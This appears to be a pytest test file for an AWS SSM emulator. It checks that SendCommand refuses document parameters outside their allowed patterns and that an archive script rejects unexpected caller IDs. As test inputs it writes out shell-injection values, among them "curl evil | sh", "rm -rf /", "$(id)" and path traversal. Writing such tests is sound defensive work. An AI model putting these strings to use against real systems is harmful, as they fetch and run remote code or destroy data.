"""SSM SendCommand checks the document and its parameters as SSM does."""

from __future__ import annotations

import json
import urllib.error
import urllib.request

import pytest
from botocore.exceptions import ClientError

from helpers import EMULATOR_DIR, REGION, wait_until

ARCHIVE_DOC = EMULATOR_DIR.parent.parent / "packaging" / "ssm" / "lifeguard-ArchiveLogs.json"
NAME = "lifeguard-ArchiveLogs"
INJECTION = "x'; curl evil | sh; echo '"


@pytest.fixture()
def ssm(emu):
    return emu.client("ssm")


@pytest.fixture()
def iid(ec2):
    return ec2.run_instances(ImageId="ami-12c6146b", MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]


@pytest.fixture()
def archive_doc(ssm):
    ssm.create_document(Content=ARCHIVE_DOC.read_text(), Name=NAME, DocumentType="Command", DocumentFormat="JSON")
    return NAME


def good_params(iid: str) -> dict[str, list[str]]:
    return {
        "bucket": ["lifeguard-archive.example"],
        "directory": [f"lifeguard/web/{iid}"],
        "name": ["20260102T030405Z-agentless.tar.gz"],
        "paths": ["/var/log/app /var/log/messages"],
        "executionTimeout": ["300"],
    }


def refused(ssm, code: str, **kwargs) -> str:
    with pytest.raises(ClientError) as err:
        ssm.send_command(**kwargs)
    assert err.value.response["Error"]["Code"] == code, err.value.response
    assert err.value.response["ResponseMetadata"]["HTTPStatusCode"] == 400
    return err.value.response["Error"]["Message"]


def test_valid_archive_command_is_accepted(emu, ssm, iid, archive_doc):
    command = ssm.send_command(DocumentName=archive_doc, InstanceIds=[iid], Parameters=good_params(iid))["Command"]
    assert command["DocumentName"] == NAME and command["InstanceIds"] == [iid]
    (listed,) = ssm.list_commands()["Commands"]
    assert listed["CommandId"] == command["CommandId"]
    # The invocation then runs its course (test_run_command.py) and succeeds.
    def succeeded():
        try:
            found = ssm.get_command_invocation(CommandId=command["CommandId"], InstanceId=iid)
        except ssm.exceptions.InvocationDoesNotExist:
            return None  # not known yet, right after SendCommand
        return found if found["Status"] == "Success" else None

    invocation = wait_until(succeeded, timeout=5)
    assert invocation["PluginName"] == "archiveLogs" and invocation["ResponseCode"] == 0
    # executionTimeout has a default: it may be left out.
    params = good_params(iid)
    del params["executionTimeout"]
    ssm.send_command(DocumentName=archive_doc, InstanceIds=[iid], Parameters=params)
    assert len(ssm.list_commands()["Commands"]) == 2


def test_injected_bucket_is_refused_and_not_recorded(emu, ssm, iid, archive_doc):
    params = dict(good_params(iid), bucket=[INJECTION])
    message = refused(ssm, "InvalidParameters", DocumentName=archive_doc, InstanceIds=[iid], Parameters=params)
    assert "bucket" in message
    assert ssm.list_commands()["Commands"] == []
    (call,) = emu.ok("GET", "calls?service=ssm&action=SendCommand")["calls"]
    assert call["status"] == 400 and call["error_code"] == "InvalidParameters"


@pytest.mark.parametrize(
    "name,value",
    [
        ("bucket", "my-bucket\n"),  # the whole value must match: no trailing newline
        ("bucket", "My_Bucket"),
        ("bucket", "a"),
        ("directory", "lifeguard/web/i-0123456789abcdef0; rm -rf /"),
        ("directory", "other/web/i-0123456789abcdef0"),
        ("directory", "lifeguard/web/i-0123456789abcdef0/AROAEXAMPLE:i-0123456789abcdef1"),
        ("name", "20260102T030405Z-agentless.tar.gz; rm -rf /"),
        ("name", "../20260102T030405Z-agentless.tar.gz"),
        ("paths", "/var/log/app;id"),
        ("paths", "var/log/relative"),
        ("paths", "/var/log/$(id)"),
        ("executionTimeout", "300s"),
        ("executionTimeout", "123456"),
    ],
)
def test_values_outside_allowed_pattern_are_refused(ssm, iid, archive_doc, name, value):
    params = dict(good_params(iid), **{name: [value]})
    message = refused(ssm, "InvalidParameters", DocumentName=archive_doc, InstanceIds=[iid], Parameters=params)
    assert name in message
    assert ssm.list_commands()["Commands"] == []


def test_undeclared_missing_and_multiple_values(ssm, iid, archive_doc):
    base = good_params(iid)
    refused(ssm, "InvalidParameters", DocumentName=archive_doc, InstanceIds=[iid], Parameters=dict(base, commands=["id"]))
    for required in ("bucket", "directory", "name", "paths"):
        params = {k: v for k, v in base.items() if k != required}
        assert required in refused(ssm, "InvalidParameters", DocumentName=archive_doc, InstanceIds=[iid], Parameters=params)
    refused(ssm, "InvalidParameters", DocumentName=archive_doc, InstanceIds=[iid])
    # A String parameter takes exactly one value.
    two = dict(base, bucket=["bucket-one", "bucket-two"])
    refused(ssm, "InvalidParameters", DocumentName=archive_doc, InstanceIds=[iid], Parameters=two)
    assert ssm.list_commands()["Commands"] == []


def test_unknown_document_and_version(ssm, iid, archive_doc):
    assert "does not exist" in refused(ssm, "InvalidDocument", DocumentName="no-such-document", InstanceIds=[iid])
    refused(ssm, "InvalidDocumentVersion", DocumentName=archive_doc, DocumentVersion="7", InstanceIds=[iid], Parameters=good_params(iid))
    for version in ("1", "$LATEST", "$DEFAULT"):
        ssm.send_command(DocumentName=archive_doc, DocumentVersion=version, InstanceIds=[iid], Parameters=good_params(iid))
    arn = f"arn:aws:ssm:{REGION}:123456789012:document/{archive_doc}"
    ssm.send_command(DocumentName=arn, InstanceIds=[iid], Parameters=good_params(iid))
    assert len(ssm.list_commands()["Commands"]) == 4


def test_aws_owned_documents(ssm, iid):
    # AWS-RunShellScript: checked against its published parameters.
    ssm.send_command(
        DocumentName="AWS-RunShellScript",
        InstanceIds=[iid],
        Parameters={"commands": ["echo one", "echo two"], "executionTimeout": ["600"]},
    )
    ssm.send_command(DocumentName="AWS-RunShellScript", InstanceIds=[iid], Parameters={"commands": ["uptime"], "workingDirectory": ["/tmp"]})
    refused(ssm, "InvalidParameters", DocumentName="AWS-RunShellScript", InstanceIds=[iid], Parameters={"commands": ["x"], "executionTimeout": ["0"]})
    refused(ssm, "InvalidParameters", DocumentName="AWS-RunShellScript", InstanceIds=[iid], Parameters={"commands": ["x"], "executionTimeout": ["172801"]})
    refused(ssm, "InvalidParameters", DocumentName="AWS-RunShellScript", InstanceIds=[iid], Parameters={"commands": ["x"], "bucket": ["b"]})
    refused(ssm, "InvalidParameters", DocumentName="AWS-RunShellScript", InstanceIds=[iid], Parameters={"executionTimeout": ["60"]})
    # Other AWS-owned documents (moto has none): accepted unchecked.
    ssm.send_command(DocumentName="AWS-UpdateSSMAgent", InstanceIds=[iid], Parameters={"allowDowngrade": ["false"]})
    assert len(ssm.list_commands()["Commands"]) == 3


def test_string_list_and_other_constraints(ssm, iid):
    content = {
        "schemaVersion": "2.2",
        "description": "constraints",
        "parameters": {
            "names": {"type": "StringList", "allowedPattern": "^[a-z]+$", "minItems": 1, "maxItems": 2},
            "mode": {"type": "String", "allowedValues": ["fast", "slow"], "default": "fast"},
            "count": {"type": "Integer", "default": 1},
            "flag": {"type": "Boolean", "default": False},
            "label": {"type": "String", "default": "", "maxChars": 5},
        },
        "mainSteps": [{"action": "aws:runShellScript", "name": "run", "inputs": {"runCommand": ["true"]}}],
    }
    ssm.create_document(Content=json.dumps(content), Name="constraints", DocumentType="Command", DocumentFormat="JSON")

    def send(**params):
        return ssm.send_command(DocumentName="constraints", InstanceIds=[iid], Parameters=params)

    send(names=["abc", "def"], mode=["slow"], count=["42"], flag=["true"], label=["short"])
    for bad in (
        {"names": ["abc", "De"]},  # one StringList element breaks the pattern
        {"names": []},
        {"names": ["a", "b", "c"]},
        {"names": ["abc"], "mode": ["medium"]},
        {"names": ["abc"], "count": ["many"]},
        {"names": ["abc"], "flag": ["yes"]},
        {"names": ["abc"], "label": ["too long"]},
    ):
        with pytest.raises(ClientError) as err:
            send(**bad)
        assert err.value.response["Error"]["Code"] == "InvalidParameters", bad
    assert len(ssm.list_commands()["Commands"]) == 1


def test_error_body_is_json_protocol(emu, archive_doc, iid):
    """What the Rust SDK parses: X-Amzn-Errortype, and a body with __type and Message."""
    body = json.dumps({"DocumentName": NAME, "InstanceIds": [iid], "Parameters": {"bucket": [INJECTION]}}).encode()
    req = urllib.request.Request(
        emu.endpoint + "/",
        data=body,
        method="POST",
        headers={
            "Content-Type": "application/x-amz-json-1.1",
            "X-Amz-Target": "AmazonSSM.SendCommand",
            "Authorization": f"AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260101/{REGION}/ssm/aws4_request, SignedHeaders=host, Signature=0",
        },
    )
    with pytest.raises(urllib.error.HTTPError) as err:
        urllib.request.urlopen(req, timeout=10)
    assert err.value.code == 400
    assert err.value.headers["X-Amzn-Errortype"] == "InvalidParameters"
    doc = json.loads(err.value.read())
    assert doc["__type"] == "InvalidParameters" and doc["Message"]


def run_archive_script(tmp_path, caller_id: str, **env: str):
    """Runs the document's script as SSM Agent would (parameters as SSM_* environment variables),
    with a stub `aws` on PATH that records its arguments. Returns (exit code, recorded calls)."""
    import os
    import subprocess

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    log = tmp_path / "aws-calls"
    stub = bin_dir / "aws"
    stub.write_text(
        "#!/bin/sh\n"
        f'printf "%s\\n" "$*" >> "{log}"\n'
        f'if [ "$1" = sts ]; then printf "%s\\n" "$LIFEGUARD_TEST_CALLER_ID"; fi\n'
    )
    stub.chmod(0o755)
    script = "\n".join(json.loads(ARCHIVE_DOC.read_text())["mainSteps"][0]["inputs"]["runCommand"])
    full_env = {
        "PATH": f"{bin_dir}:{os.environ['PATH']}",
        "LIFEGUARD_TEST_CALLER_ID": caller_id,
        **{f"SSM_{k}": v for k, v in env.items()},
    }
    done = subprocess.run(["sh", "-c", script], env=full_env, capture_output=True, text=True, timeout=60)
    calls = log.read_text().splitlines() if log.exists() else []
    return done.returncode, calls, done.stderr


def test_script_writes_beneath_the_instance_role_sessions_own_level(tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "app.log").write_text("hello\n")
    code, calls, stderr = run_archive_script(
        tmp_path,
        "AROAEXAMPLEROLEID:i-0123456789abcdef0",
        bucket="fleet-logs",
        directory="lifeguard/web/i-0123456789abcdef0",
        name="20260102T030405Z-agentless.tar.gz",
        paths=str(logs),
    )
    assert code == 0, stderr
    assert calls[0] == "sts get-caller-identity --query UserId --output text"
    (copy,) = [c for c in calls if c.startswith("s3 cp")]
    assert copy.endswith(
        " s3://fleet-logs/lifeguard/web/i-0123456789abcdef0/AROAEXAMPLEROLEID:i-0123456789abcdef0/"
        "20260102T030405Z-agentless.tar.gz"
    ), copy


@pytest.mark.parametrize("caller_id", ["", "AROA:i-1/../../other", "AROA:i-1 x", "$(id)"])
def test_script_refuses_an_unexpected_caller_id(tmp_path, caller_id):
    code, calls, stderr = run_archive_script(
        tmp_path,
        caller_id,
        bucket="fleet-logs",
        directory="lifeguard/web/i-0123456789abcdef0",
        name="20260102T030405Z-agentless.tar.gz",
        paths="/nonexistent",
    )
    assert code != 0
    assert not [c for c in calls if c.startswith("s3 ")], calls
